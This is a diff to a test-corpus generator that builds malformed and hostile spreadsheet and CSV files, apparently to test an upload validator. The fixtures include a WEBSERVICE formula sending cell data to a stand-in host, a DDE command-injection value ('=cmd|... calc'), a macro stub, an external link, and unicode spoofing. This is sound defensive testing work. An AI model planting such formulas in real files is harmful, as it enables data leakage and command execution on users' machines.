@@ -28,7 +28,7 @@ import openpyxl
 from openpyxl.workbook.workbook import Workbook
 
 from lscb_metrics.intake.read import MB
-from lscb_metrics.returns.read import MAX_FILE_MB, MAX_ROWS, MAX_UNPACKED_MB
+from lscb_metrics.returns.read import MAX_CELL_CHARS, MAX_FILE_MB, MAX_ROWS, MAX_UNPACKED_MB
 from lscb_metrics.xlsx import reproducible_xlsx, workbook_bytes
 
 CORPUS_DIR = Path(__file__).resolve().parent
@@ -178,6 +178,19 @@ def with_member(content: bytes, name: str, change: Callable[[bytes], bytes]) -> 
         for info in source.infolist():
             payload = source.read(info.filename)
             target.writestr(info.filename, change(payload) if info.filename == name else payload)
+    return reproducible_xlsx(out.getvalue())
+
+
+def with_member_added(content: bytes, name: str, payload: bytes) -> bytes:
+    """XLSX bytes with one more zip member, still reproducible."""
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(content)) as source,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
+    ):
+        for info in source.infolist():
+            target.writestr(info.filename, source.read(info.filename))
+        target.writestr(name, payload)
     return reproducible_xlsx(out.getvalue())
 
 
@@ -359,10 +372,59 @@ def zip_bomb() -> bytes:
     )
 
 
+@corpus_file("stray_cell_xfd1048576.xlsx")
+def stray_cell_xfd1048576() -> bytes:
+    # one cell in the sheet's last row and column: 5 KB that would build 17 billion cells
+    stray = '<c r="A2"><v>336</v></c><c r="XFD1048576"><v>1</v></c>'
+    return with_data_cells(assessments_xlsx(), {"A2": stray})
+
+
+@corpus_file("dimension_record_d1048576.xlsx")
+def dimension_record_d1048576() -> bytes:
+    return with_member(
+        assessments_xlsx(),
+        "xl/worksheets/sheet2.xml",
+        lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:D1048576"', xml),
+    )
+
+
+@corpus_file("cell_too_long.csv")
+def cell_too_long() -> bytes:
+    return training_csv(rows=training_rows(0, 1, "1" * (MAX_CELL_CHARS + 1)))
+
+
+@corpus_file("too_many_digits.csv")
+def too_many_digits() -> bytes:
+    return training_csv(rows=training_rows(0, 1, "1" * 41))
+
+
 @corpus_file("too_many_rows.csv")
 def too_many_rows() -> bytes:
     rows = [[f"level_{n % 4 + 1}", 10, 9] for n in range(MAX_ROWS + 1)]
     return training_csv(rows=rows)
+
+
+@corpus_file("macros_vba_project.xlsx")
+def macros_vba_project() -> bytes:
+    return with_member_added(assessments_xlsx(), "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
+
+
+@corpus_file("external_link.xlsx")
+def external_link() -> bytes:
+    link = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
+    return with_member_added(assessments_xlsx(), "xl/externalLinks/externalLink1.xml", link)
+
+
+@corpus_file("webservice_formula.xlsx")
+def webservice_formula() -> bytes:
+    cell = '<c r="A2"><f>WEBSERVICE("http://example.invalid/?"&amp;B2)</f><v>336</v></c>'
+    return with_data_cells(assessments_xlsx(), {"A2": cell})
+
+
+@corpus_file("filterxml_formula.xlsx")
+def filterxml_formula() -> bytes:
+    cell = '<c r="A2"><f>FILTERXML("&lt;a&gt;336&lt;/a&gt;","//a")</f><v>336</v></c>'
+    return with_data_cells(assessments_xlsx(), {"A2": cell})
 
 
 @corpus_file("semicolon_separated.csv")
@@ -590,6 +652,31 @@ def formula_text_in_xlsx() -> bytes:
 @corpus_file("formula_text_agency.csv")
 def formula_text_agency() -> bytes:
     return training_csv(cover=with_cover(TRAINING_COVER, {"Agency code": "=cmd|' /C calc'!A0"}))
+
+
+@corpus_file("plus_sign_count.csv")
+def plus_sign_count() -> bytes:
+    return training_csv(rows=training_rows(0, 1, "+1480"))
+
+
+@corpus_file("fullwidth_digits.csv")
+def fullwidth_digits() -> bytes:
+    return training_csv(rows=training_rows(0, 1, "\uff11\uff14\uff18\uff10"))
+
+
+@corpus_file("nbsp_padded_number.csv")
+def nbsp_padded_number() -> bytes:
+    return training_csv(rows=training_rows(0, 1, "\u00a01480\u00a0"))
+
+
+@corpus_file("zero_width_agency.csv")
+def zero_width_agency() -> bytes:
+    return training_csv(cover=with_cover(TRAINING_COVER, {"Agency code": "SU\u200bH"}))
+
+
+@corpus_file("rtl_override_agency.csv")
+def rtl_override_agency() -> bytes:
+    return training_csv(cover=with_cover(TRAINING_COVER, {"Agency code": "\u202eHUS"}))
 
 
 @corpus_file("date_in_count.xlsx")
